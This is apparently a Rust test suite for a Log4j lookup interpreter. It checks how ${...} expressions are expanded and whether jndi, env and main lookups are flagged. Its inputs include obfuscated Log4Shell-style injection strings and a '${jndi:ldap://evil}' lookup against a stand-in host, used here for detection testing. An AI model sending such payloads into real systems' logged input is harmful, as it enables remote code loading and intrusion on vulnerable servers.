use log4j_interpreter::{parse, parse_str, DecodeError};

// --- idempotence at the fixed point ---

#[test]
fn reparse_returns_fixed_point() {
    let inputs: Vec<&str> = vec![
        "hello ${lower:${::-$}{jndi:}}",
        "hi${upper:th${lower:ERE}}",
        "${::-h${::-e${::-l${::-l${::-o x}}}}}",
        "plain text",
        "hi$${there",
    ];
    for input in inputs {
        let (once, findings) = parse(input.as_bytes(), 6);
        let (twice, refindings) = parse(&once, 6);
        assert_eq!(once, twice);
        // a re-parse never raises a flag the first parse did not
        assert!(!refindings.saw_jndi || findings.saw_jndi);
        assert!(!refindings.saw_env || findings.saw_env);
        assert!(!refindings.saw_main || findings.saw_main);
        assert!(!refindings.hit_recursion_limit || findings.hit_recursion_limit);
        let (thrice, _) = parse(&twice, 6);
        assert_eq!(twice, thrice);
    }
}

// --- findings monotonicity in the budget ---

#[test]
fn larger_budget_same_result_when_limit_not_hit() {
    let input = "hello ${lower:${::-$}{jn${main:foo}di:}}";
    let (out3, f3) = parse(input.as_bytes(), 3);
    assert!(!f3.hit_recursion_limit);
    let (out9, f9) = parse(input.as_bytes(), 9);
    assert_eq!(out3, out9);
    assert_eq!(f3.saw_jndi, f9.saw_jndi);
    assert_eq!(f3.saw_env, f9.saw_env);
    assert_eq!(f3.saw_main, f9.saw_main);
    assert_eq!(f3.hit_recursion_limit, f9.hit_recursion_limit);
}

#[test]
fn exhausted_budget_can_change_the_result() {
    // with no budget at all the region becomes the sentinel instead
    let (out0, f0) = parse(b"${lower:A}", 0);
    assert_eq!(out0, b"ERROR_RECURSION_LIMIT_REACHED".to_vec());
    assert!(f0.hit_recursion_limit);
    let (out1, f1) = parse(b"${lower:A}", 1);
    assert_eq!(out1, b"a".to_vec());
    assert!(!f1.hit_recursion_limit);
}

// --- escape literalness ---

#[test]
fn escaped_opener_stays_literal_without_closer() {
    // `$$` + `{abc` collapses to `$` + `{abc` and nothing is dispatched
    let (out, findings) = parse(b"$${abc", 3);
    assert_eq!(out, b"${abc".to_vec());
    assert!(!findings.saw_jndi);
    assert!(!findings.saw_env);
    assert!(!findings.saw_main);
    assert!(!findings.hit_recursion_limit);
}

#[test]
fn escaped_opener_with_closer_is_dispatched_by_the_next_pass() {
    // the fixed-point driver re-reads the collapsed `${a}`, so the escape
    // does not stay literal once a closer follows
    let (out, _) = parse(b"$${a}", 3);
    assert_eq!(out, b"".to_vec());
}

// --- plain pass-through ---

#[test]
fn dollar_free_input_is_unchanged() {
    let input = "no lookups here: {braces} :- and } stray closers";
    let (out, findings) = parseu(input);
    assert_eq!(input, out);
    assert!(!findings.saw_jndi);
    assert!(!findings.saw_env);
    assert!(!findings.saw_main);
    assert!(!findings.hit_recursion_limit);
}

#[test]
fn empty_input() {
    let (out, findings) = parseu("");
    assert_eq!("", out);
    assert!(!findings.saw_jndi);
    assert!(!findings.saw_env);
    assert!(!findings.saw_main);
    assert!(!findings.hit_recursion_limit);
}

// --- flag correspondence ---

#[test]
fn each_dangerous_handler_sets_its_own_flag() {
    let (_, f) = parseu("${jndi:ldap://evil}");
    assert!(f.saw_jndi && !f.saw_env && !f.saw_main);

    let (_, f) = parseu("${env:HOME}");
    assert!(!f.saw_jndi && f.saw_env && !f.saw_main);

    let (_, f) = parseu("${main:0}");
    assert!(!f.saw_jndi && !f.saw_env && f.saw_main);

    let (_, f) = parseu("${lower:NOTHING DANGEROUS}${date:yy}${base64:aGk=}");
    assert!(!f.saw_jndi && !f.saw_env && !f.saw_main && !f.hit_recursion_limit);
}

#[test]
fn jndi_keeps_its_whole_value() {
    let (out, f) = parseu("${jNdI:ldap://x:-fallback}");
    assert_eq!("jNdI:ldap://x", out);
    assert!(f.saw_jndi);
}

// --- error substitutes ---

#[test]
fn lower_with_invalid_utf8_argument() {
    let (out, f) = parse(b"${lower:\xff}", 3);
    assert_eq!(out, b"ERROR_LOWER_INVALID_UTF8".to_vec());
    assert!(!f.saw_jndi && !f.hit_recursion_limit);
}

#[test]
fn upper_with_invalid_utf8_argument() {
    let (out, _) = parse(b"${upper:\xff}", 3);
    assert_eq!(out, b"ERROR_UPPER_INVALID_UTF8".to_vec());
}

#[test]
fn base64_with_invalid_argument() {
    let (out, _) = parse(b"${base64:!!notbase64!!}", 3);
    assert_eq!(out, b"ERROR_BASE64_DECODE_INVALID".to_vec());
}

#[test]
fn recursion_limit_sets_flag_and_sentinel() {
    let (out, f) = parse(b"pre ${a} post", 0);
    assert_eq!(out, b"pre ERROR_RECURSION_LIMIT_REACHED post".to_vec());
    assert!(f.hit_recursion_limit);
    assert!(!f.saw_jndi && !f.saw_env && !f.saw_main);
}

#[test]
fn parse_str_rejects_non_utf8_final_output() {
    // `//4=` is the base64 encoding of the bytes ff fe, which are not UTF-8
    let r = parse_str("${base64://4=}", 3);
    assert_eq!(r, Err(DecodeError));
}

// --- handler corners ---

#[test]
fn unknown_handler_without_default_is_empty() {
    assert_eq!("", parseu_string("${nosuch}"));
    assert_eq!("", parseu_string("${::-}"));
}

#[test]
fn prefixes_match_case_insensitively() {
    assert_eq!("abc", parseu_string("${LOWER:ABC}"));
    assert_eq!("ABC", parseu_string("${UpPeR:abc}"));
    assert_eq!("hi", parseu_string("${BASE64:aGk=}"));
    let (_, f) = parseu("${ENV:HOME:-x}");
    assert!(f.saw_env);
}

#[test]
fn env_and_main_never_resolve() {
    // even for variables that certainly exist, only the default is used
    assert_eq!("", parseu_string("${env:PATH}"));
    assert_eq!("fallback", parseu_string("${main:whatever:-fallback}"));
}

#[test]
fn date_keeps_quoted_text_and_drops_format_letters() {
    assert_eq!("--", parseu_string("${date:yyyy-MM-dd}"));
    assert_eq!("at:", parseu_string("${date:'at'HH:mm}"));
    assert_eq!("", parseu_string("${date:''}"));
    assert_eq!("q2", parseu_string("${date:'q'G2y}"));
}

#[test]
fn unterminated_region_passes_through() {
    assert_eq!("${", parseu_string("${"));
    assert_eq!("$", parseu_string("$"));
    assert_eq!("${a$", parseu_string("${a$"));
}

#[test]
fn first_default_delimiter_wins() {
    assert_eq!("b:-c", parseu_string("${a:-b:-c}"));
}

fn parseu(input: &str) -> (String, log4j_interpreter::Findings) {
    parse_str(input, 3).unwrap()
}

fn parseu_string(input: &str) -> String {
    parse_str(input, 3).unwrap().0
}
